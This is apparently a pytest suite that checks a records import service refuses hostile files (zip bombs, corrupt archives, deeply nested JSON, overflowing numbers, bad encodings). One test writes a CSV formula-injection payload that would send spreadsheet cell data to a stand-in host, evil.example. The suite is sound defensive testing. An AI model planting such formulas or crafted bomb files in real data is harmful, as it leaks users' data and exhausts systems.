"""Hostile files refused cleanly: one message naming file, row and reason; nothing written; no traceback.

Each file is crafted here. Every case runs in this process and in the import worker (the error crosses
the process boundary), on SQLite and PostgreSQL, and once more through the `vinculo import` command.
"""

from __future__ import annotations

import io
import zipfile

import pytest
from hostile_imports import (
    CSV_HEADER,
    GOOD_ROW,
    HEADER,
    blank_lines_zip,
    ndjson,
    run_cli,
    seizure_line,
    sparse,
    zipped,
)

from vinculo.accounts.model import Actor
from vinculo.records import service
from vinculo.records.importers.service import ImportFailed, import_file
from vinculo.records.importers.sources import FileSource
from vinculo.records.query import build_filters


def _bad_zip(tmp):
    path = tmp / "ids.zip"
    path.write_bytes(b"PK\x03\x04" + b"not really a zip" * 64)
    return path


def _truncated_zip(tmp):
    whole = zipped(tmp / "whole.zip", "ids.csv", [(HEADER + "\n" + GOOD_ROW + "\n").encode() * 2000])
    path = tmp / "ids.zip"
    path.write_bytes(whole.read_bytes()[: whole.stat().st_size // 2])
    return path


def _corrupt_zip(tmp):
    """A well-formed archive whose compressed bytes were damaged: inflating fails or the CRC does not match."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("ids.csv", HEADER + "\n" + "\n".join(GOOD_ROW.replace("2.5", str(i)) for i in range(3000)))
    data = bytearray(buf.getvalue())
    for i in range(200, 2000, 7):
        data[i] ^= 0x5A
    path = tmp / "ids.zip"
    path.write_bytes(bytes(data))
    return path


def _bomb(tmp):
    return zipped(tmp / "ids.zip", "ids.csv", [HEADER.encode() + b"\n"] + [b"\0" * (1 << 20)] * 200, level=9)


def _many_members(tmp):
    path = tmp / "ids.zip"
    with zipfile.ZipFile(path, "w") as zf:
        for i in range(40_000):
            zf.writestr(f"{i}.csv", b"")
    return path


def _csv(name, text):
    def build(tmp):
        path = tmp / name
        path.write_bytes(text if isinstance(text, bytes) else text.encode())
        return path
    return build


def _nd(name, *objects, raw=b""):
    return lambda tmp: ndjson(tmp / name, *objects, raw=raw)


# id, format, build(tmp) -> path, (substrings the message holds), environment
CASES = [
    ("bad-zip", "unodc-ids", _bad_zip, ("ids.zip: not a readable zip file",), {}),
    ("truncated-zip", "unodc-ids", _truncated_zip, ("ids.zip: not a readable zip file",), {}),
    ("corrupt-zip", "unodc-ids", _corrupt_zip, ("ids.zip", "damaged zip file"), {}),
    ("zip-bomb", "unodc-ids", _bomb, ("ids.zip: ids.csv would unzip", "zip bomb", "VINCULO_IMPORT_MAX_RATIO"), {}),
    ("zip-of-many-members", "unodc-ids", _many_members, ("ids.zip: its table of contents takes", "too many members"),
     {}),
    ("sparse-2GiB", "unodc-ids", lambda tmp: sparse(tmp / "ids.csv"), ("ids.csv:1: row longer than 1048576 bytes",), {}),
    ("deep-ndjson", "ndjson", _nd("deep.ndjson", raw=b"[" * 100_000 + b"]" * 100_000 + b"\n"),
     ("deep.ndjson:1: line: nested more than 32 deep",), {}),
    ("int-over-2^63", "ndjson", _nd("big.ndjson", seizure_line(), seizure_line(quantity={"amount": 2**63 + 1,
                                                                                        "unit": "kg"})),
     ("big.ndjson:2: line: integer 9223372036854775809 is beyond ±9007199254740991",), {}),
    ("int-over-2^53", "ndjson", _nd("big.ndjson", seizure_line(quantity={"amount": 2**53 + 1, "unit": "kg"})),
     ("big.ndjson:1: line: integer 9007199254740993 is beyond",), {}),
    ("float-overflow", "ndjson", _nd("inf.ndjson", raw=b'{"type": "seizure", "body": {"quantity": 1e400}}\n'),
     ("inf.ndjson:1: line: not JSON: number 1e400 is too large",), {}),
    ("bad-encoding", "ndjson", _nd("latin.ndjson", seizure_line(), raw='{"type": "seizure", "body": {"place": '
                                   '"Peñasco"}}\n'.encode("latin-1")),
     ("latin.ndjson:2: not UTF-8 text: byte 0xf1 at column 42",), {}),
    ("too-long-line", "ndjson", _nd("long.ndjson", seizure_line(place="x" * 2_000_000)),
     ("long.ndjson:1: row longer than 1048576 bytes",), {}),
    ("too-long-csv-row", "csv", _csv("long.csv", CSV_HEADER + '2025-01-02,MX,"' + "ANPP\n" * 300_000 + '",25,kg\n'),
     ("long.csv:", "row longer than 1048576 bytes",), {}),
    ("too-many-rows", "ndjson", _nd("many.ndjson", *[seizure_line(place=f"p{i}") for i in range(10)]),
     ("many.ndjson:6: more than 5 lines (VINCULO_IMPORT_MAX_ROWS)",), {"VINCULO_IMPORT_MAX_ROWS": "5"}),
    ("csv-nul", "csv", _csv("nul.csv", CSV_HEADER + "2025-01-02,MX,ANPP,25,kg\n2025-01-02,MX,AN\0PP,25,kg\n"),
     ("nul.csv:3: NUL byte at column 17",), {}),
    ("csv-extra-fields", "csv", _csv("wide.csv", CSV_HEADER + "2025-01-02,MX,ANPP,25,kg,x,y\n"),
     ("wide.csv:2: row: has 7 fields, the header has 5",), {}),
    ("csv-bad-encoding", "csv", _csv("latin.csv", (CSV_HEADER + "2025-01-02,MX,ANPP,25,kg\n").encode()
                                     + "2025-01-02,México,ANPP,25,kg\n".encode("cp1252")),
     ("latin.csv:3: not UTF-8 text: byte 0xe9 at column 13",), {}),
    ("csv-big-integer", "csv", _csv("big.csv", CSV_HEADER + "2025-01-02,MX,ANPP,99999999999999999999999,kg\n"),
     ("big.csv:2: quantity.amount:",), {}),
    ("unodc-wrong-width", "unodc-ids", _csv("ids.csv", HEADER + "\n" + GOOD_ROW + ";extra\n"),
     ("ids.csv:2: row: has 17 fields, the header has 16",), {}),
]
IDS = [c[0] for c in CASES]


def _message(exc: BaseException) -> str:
    if isinstance(exc, ImportFailed):
        return str(exc.report.errors[0])
    return str(exc)


@pytest.mark.parametrize("workers", [False, True], ids=["inline", "worker"])
@pytest.mark.parametrize("case", CASES, ids=IDS)
def test_hostile_file_is_refused_by_name_and_row_and_nothing_is_written(node, tmp_path, monkeypatch, case, workers):
    _, fmt, build, expected, env = case
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    path = build(tmp_path)
    analyst = Actor("ana", "analyst", node.id)
    with pytest.raises((ValueError, ImportFailed)) as err:
        import_file(node, analyst, FileSource(fmt, path, "seizure" if fmt == "csv" else None), workers=workers)
    message = _message(err.value)
    assert str(path) in message
    for part in expected:
        assert part in message, message
    assert service.count_records(node, analyst, build_filters()) == 0


@pytest.mark.parametrize("case", CASES, ids=IDS)
def test_the_command_says_it_in_a_line_and_exits_non_zero(node, db_url, tmp_path, case):
    _, fmt, build, expected, env = case
    path = build(tmp_path)
    args = ["import", "unodc-ids", str(path)] if fmt == "unodc-ids" else ["import", "records", str(path)]
    if fmt == "csv":
        args += ["--type", "seizure"]
    proc = run_cli(node.home.path, db_url, *args, env=env)
    assert proc.returncode == 2, proc.stderr
    assert "Traceback" not in proc.stderr
    first = proc.stderr.strip().splitlines()[0]
    assert str(path) in first and all(part in proc.stderr for part in expected), proc.stderr


def test_blank_lines_are_skipped_and_rows_keep_their_line_numbers(node, tmp_path):
    analyst = Actor("ana", "analyst", node.id)
    path = blank_lines_zip(tmp_path / "ids.zip", 5000)
    report = import_file(node, analyst, FileSource("unodc-ids", path), workers=False)
    assert (report.rows, report.imported, report.rejected) == (1, 1, 0)
    nd = ndjson(tmp_path / "r.ndjson", seizure_line(), raw=b"\n \r\n\t\n" + b'{"type": "seizure", "body": 1}\n')
    with pytest.raises(ImportFailed) as err:
        import_file(node, analyst, FileSource("ndjson", nd), workers=False)
    assert err.value.report.rows == 2 and str(err.value.report.errors[0]).startswith(f"{nd}:5: ")


def test_reject_file_cells_cannot_run_as_formulas_and_only_the_owner_reads_it(node, tmp_path):
    import csv
    import stat

    path = tmp_path / "s.csv"
    path.write_text("substance,date,country,quantity.amount,quantity.unit\n"
                    "=HYPERLINK(\"http://evil.example/?\"&A1),2025-01-02,Narnia,25,kg\n"
                    "ANPP,2025-01-02,MX,25,kg\n", encoding="utf-8")
    rejects = tmp_path / "rejects.csv"
    analyst = Actor("ana", "analyst", node.id)
    report = import_file(node, analyst, FileSource("csv", path, "seizure"), skip_invalid=True, reject_path=rejects,
                         workers=False)
    assert (report.imported, report.rejected, report.reject_file) == (1, 1, str(rejects))
    assert stat.S_IMODE(rejects.stat().st_mode) == 0o600
    with open(rejects, encoding="utf-8", newline="") as fh:
        header, row = list(csv.reader(fh))
    assert header == ["file", "row", "reason", "raw"] and row[1] == "2"
    assert row[3].startswith("'=HYPERLINK(")  # a spreadsheet shows it as text
    assert not (tmp_path / "rejects.csv.partial").exists()
